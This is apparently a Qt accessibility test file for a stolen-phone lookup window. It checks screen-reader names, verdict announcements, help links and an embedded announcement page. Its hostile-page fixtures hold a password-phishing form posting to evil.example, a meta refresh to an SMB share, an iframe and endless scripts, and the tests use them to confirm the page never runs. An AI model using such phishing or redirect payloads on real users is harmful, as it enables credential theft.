// The window as a screen reader finds it: through an accessibility bus on an
// X display, the controls' names and roles, the help link's action, the
// verdict's announcement and the announcement page's own text, drawn in the
// window's own process by the page view, as the program sets it up.

#include "accessibility.h"
#include "application.h"
#include "device_lookup.h"
#include "form_fixture.h"
#include "main_window.h"
#include "page_browser.h"
#include "page_server.h"
#include "process_tree.h"
#include "service_contract.h"
#include "window_doubles.h"

#include <QAccessible>
#include <QApplication>
#include <QFile>
#include <QLabel>
#include <QLineEdit>
#include <QPushButton>
#include <QSignalSpy>
#include <QTest>

#include <algorithm>
#include <memory>
#include <signal.h>

using namespace std::chrono_literals;
using namespace Qt::StringLiterals;
using mizong::Form1;
using mizong::testing::Answer;
using mizong::testing::dataFile;
using mizong::testing::FormFixture;
using mizong::testing::PageServer;
using mizong::testing::processTree;

namespace {

constexpr int kLimitMs = 30000; // liveness only

// What a screen reader was told.
struct SeenEvent
{
    QAccessible::Event type;
    QObject* object;
    QString message;
};
QList<SeenEvent> g_events;

void recordEvent(QAccessibleEvent* event)
{
    SeenEvent seen{event->type(), event->object(), QString()};
#if QT_VERSION >= QT_VERSION_CHECK(6, 8, 0)
    if (event->type() == QAccessible::Announcement)
        seen.message = static_cast<QAccessibleAnnouncementEvent*>(event)->message();
#endif
    g_events.append(seen);
}

// Every name, value and text in the subtree, as a reader walks it.
bool treeContains(QAccessibleInterface* node, const QString& phrase, int depth = 0)
{
    if (!node || !node->isValid() || depth > 64)
        return false;
    for (QAccessible::Text kind :
         {QAccessible::Name, QAccessible::Value, QAccessible::Description}) {
        if (node->text(kind).contains(phrase))
            return true;
    }
    if (QAccessibleTextInterface* text = node->textInterface()) {
        if (text->text(0, text->characterCount()).contains(phrase))
            return true;
    }
    for (int i = 0; i < node->childCount(); ++i) {
        if (treeContains(node->child(i), phrase, depth + 1))
            return true;
    }
    return false;
}

QAccessibleInterface* accessibleOf(QObject* object)
{
    QAccessibleInterface* node = QAccessible::queryAccessibleInterface(object);
    if (!node)
        qFatal("no accessible interface for %s", qPrintable(object->objectName()));
    return node;
}

constexpr const char kPhrase[] = "寻回失窃手机的公告";

} // namespace

class TestAccessibility final : public QObject
{
    Q_OBJECT

private:
    // The home site is made first: the window is made with its address.
    struct HomeSite
    {
        PageServer homeSite;
    };
    struct Fixture : HomeSite, FormFixture
    {
        explicit Fixture(bool embedBrowser = false)
            : FormFixture([this, embedBrowser](Form1::Options& options) {
                  options.homeSiteBase = homeSite.start();
                  options.embedBrowser = embedBrowser;
              })
        {
            showActive();
        }
    };

private slots:
    void initTestCase();
    void init() { g_events.clear(); }
    void controlsAreNamed_data();
    void controlsAreNamed();
    void helpLinkIsALink_data();
    void helpLinkIsALink();
    void pageIsReadable();
    void hostilePageLeavesWindowAlone_data();
    void hostilePageLeavesWindowAlone();

private:
    // Serves the announcement, shows it, and waits until a reader finds its
    // text; the page view, or nullptr after a failed check.
    static QWidget* showAnnouncement(Fixture& f, const QByteArray& body);
    static QByteArray announcement();
};

void TestAccessibility::initTestCase()
{
    // Active as with a screen reader running: the bus is there.
    QTRY_VERIFY2_WITH_TIMEOUT(QAccessible::isActive(), "no accessibility bus (AT_SPI_BUS_ADDRESS)",
                              kLimitMs);
    QAccessible::installUpdateHandler(recordEvent);
}

void TestAccessibility::controlsAreNamed_data()
{
    QTest::addColumn<QString>("control");
    QTest::addColumn<int>("role"); // QAccessible::Role
    QTest::addColumn<QString>("name");

    const int button = QAccessible::Button;
    QTest::newRow("device start") << u"Command3"_s << button << u"开始查询（IMEI或序列号）"_s;
    QTest::newRow("device clear") << u"Command1"_s << button << u"清空信息（IMEI或序列号）"_s;
    QTest::newRow("SIM start") << u"Command4"_s << button << u"开始查询（ICCID）"_s;
    QTest::newRow("SIM clear") << u"Command2"_s << button << u"清空信息（ICCID）"_s;
    QTest::newRow("shop") << u"Command6"_s << button << u"觅踪网淘宝店"_s;
    QTest::newRow("announcement") << u"WebBrowser1"_s << int(QAccessible::Document)
                                  << u"觅踪网公告"_s;
    QTest::newRow("device input") << u"Text1(0)"_s << int(QAccessible::EditableText)
                                  << u"IMEI或序列号:"_s;
    QTest::newRow("SIM input") << u"Text1(1)"_s << int(QAccessible::EditableText) << u"ICCID:"_s;
    QTest::newRow("empty help link") << u"Label18"_s << int(QAccessible::StaticText) << QString();
    QTest::newRow("window") << u"Form1"_s << int(QAccessible::Window) << QString(); // its title
}

void TestAccessibility::controlsAreNamed()
{
    QFETCH(QString, control);
    QFETCH(int, role);
    QFETCH(QString, name);
    Fixture f;
    QObject* object = control == f.form->objectName() ? f.form.get() : f.child<QWidget>(control);
    QAccessibleInterface* node = accessibleOf(object);
    QCOMPARE(int(node->role()), role);
    QCOMPARE(node->text(QAccessible::Name), object == f.form.get() ? f.form->windowTitle() : name);

    // One window for a reader to find: the application's only top-level object.
    QAccessibleInterface* application = accessibleOf(qApp);
    QCOMPARE(application->childCount(), 1);
    QCOMPARE(application->child(0)->object(), f.form.get());
}

void TestAccessibility::helpLinkIsALink_data()
{
    QTest::addColumn<QString>("page");
    QTest::addColumn<QString>("verdict"); // empty: none, nothing announced
    QTest::addColumn<QString>("link");
    QTest::addColumn<QString>("help"); // the page the link opens

    QTest::newRow("re-activated") << u"device-reactivated.html"_s
                                  << u"手机已经被刷机！请及时复查刷机信息！"_s
                                  << u"如何判断小偷已经刷机？点击查看！"_s
                                  << mizong::site::kHelpReactivatedPath.toString();
    QTest::newRow("not re-activated")
        << u"device-not-reactivated.html"_s << u"手机还未刷机，请耐心等待!"_s
        << u"如何催促对方刷机？点击查看！"_s << mizong::site::kHelpNotReactivatedPath.toString();
    QTest::newRow("no verdict") << u"device-partial.html"_s << QString() << QString() << QString();
}

void TestAccessibility::helpLinkIsALink()
{
    QFETCH(QString, page);
    QFETCH(QString, verdict);
    QFETCH(QString, link);
    QFETCH(QString, help);
    Fixture f;
    f.deviceLookup(page);
    QObject* verdictLabel = f.child<QLabel>(u"Label17"_s);

    // The verdict is announced once, from the verdict label.
    QList<SeenEvent> told;
    for (const SeenEvent& seen : std::as_const(g_events)) {
#if QT_VERSION >= QT_VERSION_CHECK(6, 8, 0)
        if (seen.type == QAccessible::Announcement) {
            QCOMPARE(seen.message, verdict);
            told.append(seen);
        }
#else
        if (seen.type == QAccessible::Alert)
            told.append(seen);
#endif
    }
    QCOMPARE(told.size(), verdict.isEmpty() ? 0 : 1);
    if (!told.isEmpty())
        QCOMPARE(told.first().object, verdictLabel);

    QAccessibleInterface* node = accessibleOf(f.child<QLabel>(u"Label18"_s));
    QAccessibleActionInterface* actions = node->actionInterface();
    QVERIFY(actions);
    QCOMPARE(node->text(QAccessible::Name), link);
    if (link.isEmpty()) {
        QCOMPARE(node->role(), QAccessible::StaticText);
        QVERIFY(actions->actionNames().isEmpty());
    } else {
        QCOMPARE(node->role(), QAccessible::Link);
        QVERIFY(node->state().linked);
        QCOMPARE(actions->actionNames(), QStringList{QAccessibleActionInterface::pressAction()});
    }

    // A reader's press and F1 each open the article of the verdict, or nothing.
    const QUrl article(f.homeSite.start() + help);
    actions->doAction(QAccessibleActionInterface::pressAction());
    QTest::keyClick(f.form->focusWidget(), Qt::Key_F1);
    const QList<QUrl> opened = help.isEmpty() ? QList<QUrl>{} : QList<QUrl>{article, article};
    QCOMPARE(f.opener.opened, opened);
    QVERIFY(f.messenger.messages.isEmpty());
}

QWidget* TestAccessibility::showAnnouncement(Fixture& f, const QByteArray& body)
{
    f.homeSite.route(mizong::site::kAnnouncementPath.toUtf8(),
                     Answer(PageServer::htmlResponse(body), Answer::Then::Close));
    auto* view = f.child<mizong::PageBrowser>(u"WebBrowser1"_s);
    [&] {
        QTRY_VERIFY_WITH_TIMEOUT(treeContains(accessibleOf(view), QString::fromUtf8(kPhrase)),
                                 kLimitMs);
    }();
    return QTest::currentTestFailed() ? nullptr : view;
}

QByteArray TestAccessibility::announcement()
{
    return "<!doctype html><html><head><meta charset=\"utf-8\"><title>公告</title></head>"
           "<body><p>" +
           QByteArray(kPhrase) +
           "</p><p><a href=\"/help.html\">帮助文章</a> <a href=\"https://other.example/\" "
           "target=\"_blank\">淘宝店</a></p></body></html>";
}

// The view asks the home site for the announcement; a reader reads it as a
// document with its links, and presses them.
void TestAccessibility::pageIsReadable()
{
    Fixture f(true);
    QWidget* view = showAnnouncement(f, announcement());
    QVERIFY(view);
    QAccessibleInterface* page = accessibleOf(view);
    QCOMPARE(page->text(QAccessible::Name), u"觅踪网公告"_s);
    QCOMPARE(page->role(), QAccessible::Document);
    const QByteArray path = mizong::site::kAnnouncementPath.toUtf8();
    QVERIFY(std::any_of(f.homeSite.log().cbegin(), f.homeSite.log().cend(),
                        [&](const mizong::testing::Request& request) {
                            return request.method == "GET" && request.target == path;
                        }));

    QCOMPARE(page->childCount(), 2);
    QAccessibleInterface* help = page->child(0);
    QAccessibleInterface* shop = page->child(1);
    QCOMPARE(help->role(), QAccessible::Link);
    QCOMPARE(help->text(QAccessible::Name), u"帮助文章"_s);
    QCOMPARE(shop->text(QAccessible::Name), u"淘宝店"_s);
    QCOMPARE(page->indexOfChild(shop), 1);
    QVERIFY(help->rect().isValid());
    QVERIFY(view->rect().contains(view->mapFromGlobal(help->rect().center())));
    // Pressing the shop's link sends it to the browser; nothing is opened before.
    QVERIFY(f.opener.opened.isEmpty());
    QAccessibleActionInterface* press = shop->actionInterface();
    QVERIFY(press);
    QCOMPARE(press->actionNames(), QStringList{QAccessibleActionInterface::pressAction()});
    press->doAction(QAccessibleActionInterface::pressAction());
    QCOMPARE(f.opener.opened, QList<QUrl>{QUrl(u"https://other.example/"_s)});

    // Only the program's own window is a top-level object for a reader.
    QAccessibleInterface* application = accessibleOf(qApp);
    QCOMPARE(application->childCount(), 1);
    QCOMPARE(application->child(0)->object(), f.form.get());
}

void TestAccessibility::hostilePageLeavesWindowAlone_data()
{
    QTest::addColumn<QByteArray>("body");

    const QByteArray phrase(kPhrase);
    QTest::newRow("100 000 levels deep")
        << QByteArray("<p>" + phrase + "</p>" + QByteArray("<div>").repeated(100000));
    QTest::newRow("scripts that never stop") << QByteArray(
        "<script>for(;;)alert('x')</script><p>" + phrase + "</p><script>while(true){}</script>");
    QTest::newRow("a form asking for a password")
        << QByteArray("<p>" + phrase +
                      "</p><form action=\"http://evil.example/\"><input type=password "
                      "name=p><input type=submit value=\"请输入Apple ID密码\"></form>");
    QTest::newRow("refresh to another place")
        << QByteArray("<meta http-equiv=\"refresh\" content=\"0;url=smb://evil.example/\"><p>" +
                      phrase + "</p><iframe src=\"http://evil.example/\"></iframe>");
}

// The page never runs: whatever it holds, the window answers the next click,
// a reader walks it whole, nothing opens, and the program starts no process.
void TestAccessibility::hostilePageLeavesWindowAlone()
{
    QFETCH(QByteArray, body);
    Fixture f(true);
    QWidget* view = showAnnouncement(f, body);
    QVERIFY(view);
    QVERIFY(!treeContains(accessibleOf(view), u"Apple ID"_s));
    QVERIFY(!treeContains(accessibleOf(view), u"alert"_s));

    f.click(u"Command3"_s); // with an empty box
    QCOMPARE(f.messenger.messages, QStringList{mizong::device::kLengthMessage.toString()});
    // A phrase that is nowhere, so that the reader walks every node.
    QVERIFY(!treeContains(accessibleOf(f.form.get()), u"不在窗口里的字"_s));
    QVERIFY(f.opener.opened.isEmpty());
    QCOMPARE(processTree(QCoreApplication::applicationPid()).size(), 1);
}

int main(int argc, char* argv[])
{
    // The X11 platform, whose accessibility bridge a screen reader talks to.
    qputenv("QT_QPA_PLATFORM", "xcb");
    QApplication app(argc, argv);
    mizong::prepareApplication();
    TestAccessibility test;
    QTEST_SET_MAIN_SOURCE_PATH
    return QTest::qExec(&test, argc, argv);
}

#include "tst_accessibility.moc"
